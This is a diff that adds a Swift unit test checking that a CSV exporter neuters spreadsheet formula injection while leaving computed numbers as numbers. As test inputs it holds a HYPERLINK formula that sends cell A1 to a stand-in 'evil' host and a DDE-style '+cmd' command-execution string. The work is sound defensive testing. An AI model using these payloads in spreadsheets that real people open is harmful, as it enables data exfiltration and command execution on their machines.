@@ -47,6 +47,28 @@ struct ExportFormatTests {
         #expect(ExportFormat.csv(Self.row, columns: columns, delimiter: ",").contains(",12.70,"))
     }
 
+    @Test("text a spreadsheet would run as a formula is made inert; computed numbers stay numbers")
+    func formulaInjection() throws {
+        var row = Self.row
+        row["employee"] = .string("=HYPERLINK(\"http://evil/?\"&A1,\"click\")")
+        row["subject"] = .string("+cmd|' /C calc'!A0")
+        row["customer"] = .string("@SUM(1+1)")
+        row["text"] = .string("-2+3")
+        row["tags"] = .array([.string("=1+1")])
+        let columns = ExportFormat.columns(sample: [row])
+        let line = ExportFormat.csv(row, columns: columns, delimiter: ",")
+        let text = Array(try TextDecoding.decode(Array(line.utf8)).bytes)
+        let cells = try text.withUnsafeBufferPointer { b in
+            var parser = CSVParser(b)
+            return try #require(try parser.nextRow()).fields
+        }
+        let cell = { (name: String) in cells[columns.firstIndex(of: name)!] }
+        #expect(cell("customer") == "'@SUM(1+1)" && cell("text") == "'-2+3" && cell("tags") == "'=1+1")
+        #expect(cell("employee").hasPrefix("'=HYPERLINK(") && cell("subject") == "'+cmd|' /C calc'!A0")
+        #expect(cell("value_cents") == "-1250" && cell("net") == "-25.20" && cell("net_cents") == "-2520", "numbers are not text")
+        #expect(CSVText.inert("plain") == "plain" && CSVText.inert("") == "" && CSVText.inert("\tx") == "'\tx")
+    }
+
     @Test("a JSON line is a record the parser reads back to the same fields")
     func jsonLineRoundTrip() throws {
         let line = ExportFormat.jsonLine(Self.row, currency: "EUR", recordsOnly: false)
